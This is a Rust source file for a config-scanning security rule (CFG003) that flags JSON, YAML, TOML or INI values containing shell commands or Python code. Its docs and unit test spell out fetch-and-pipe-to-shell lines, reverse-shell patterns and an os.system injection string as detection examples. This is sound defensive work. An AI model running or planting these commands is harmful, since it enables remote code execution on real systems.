//! CFG003: a config value contains a shell command or Python code.

use sentrascan_formats::config::ConfigView;
use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use crate::rules::safetensors::metadata_payloads::code_hits;

pub static RULE: RuleMeta = RuleMeta {
    code: "CFG003",
    name: "config-embedded-code",
    family: super::FAMILY,
    default_severity: Severity::High,
    category: Category::CodeInjection,
    scanner: "config",
    cwe: Some("CWE-94"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A value in a JSON, YAML, TOML or INI config (or a model card's front matter) contains a shell command or Python code.",
    remediation: "Find out what reads the value; do not run it. Remove the value.",
    docs: r#"## What it does
Checks every string value (except chat templates, which the `TPL` rules
read, and tokenizer vocabularies: `vocab`, `merges`, `added_tokens`) for Python that evaluates code or starts
processes (`eval(`, `__import__`, `os.system(`, `subprocess.run(`, …) and
for shell commands (`curl … | sh`, `bash -i`, `/dev/tcp/`, `base64 -d |`,
…). The patterns need call or pipe syntax, so prose does not match.

## Why is this bad?
Configs are read by tools that run parts of them: `setup.cfg` and
`pyproject.toml` entry points and build hooks, launch scripts that pass a
value to a shell, templating that evaluates expressions. A command there is
staged for one of them.

## Example
```json
{"preprocess_cmd": "curl -s http://example.invalid/x.sh | bash"}
```

## How to fix
Remove the value; never pass config values to a shell or to `eval`.

## References
- CWE-94: Improper Control of Generation of Code
- CWE-78: OS Command Injection
"#,
};

pub(crate) fn check(view: &ConfigView, location: &Location, out: &mut Vec<Finding>) {
    let mut found = Vec::new();
    for v in &view.values {
        // Chat templates are Jinja, read by the `TPL` rules; vocabulary
        // entries are tokens of code corpora (`exec(` is one), never run.
        if v.value.len() < 4 || v.path.starts_with("chat_template") || super::is_vocabulary(&v.path)
        {
            continue;
        }
        for hit in code_hits(&v.value) {
            let (what, category) = if hit.shell {
                ("a shell command", Category::OsCommandExecution)
            } else {
                ("Python code", Category::ArbitraryCodeExecution)
            };
            found.push(
                Finding::new(
                    &RULE,
                    location.clone(),
                    format!(
                        "Config value {} contains {what} (`{}`)",
                        super::place(v),
                        hit.pattern
                    ),
                )
                .category(category)
                .description(format!(
                    "The value at {} contains {what} matching `{}`: `{}`.",
                    super::place(v),
                    hit.pattern,
                    hit.excerpt
                ))
                .evidence("path", v.path.as_str())
                .evidence("line", v.line)
                .evidence("pattern", hit.pattern.as_str())
                .evidence("excerpt", hit.excerpt.as_str()),
            );
        }
    }
    super::capped(&RULE, found, location, out);
}

#[cfg(test)]
mod tests {
    use super::*;
    use sentrascan_formats::Limits;
    use sentrascan_formats::config::{ConfigKind, parse};

    #[test]
    fn shell_and_python() {
        let v = parse(
            ConfigKind::Json,
            br#"{"a": "curl -s http://127.0.0.1:9/x | sh", "b": "__import__('os').system('x')", "c": "model.eval() then exec mode"}"#,
            &Limits::default(),
        );
        let mut out = Vec::new();
        check(&v, &Location::file("c.json"), &mut out);
        assert_eq!(out.len(), 2, "{out:?}");
    }
}
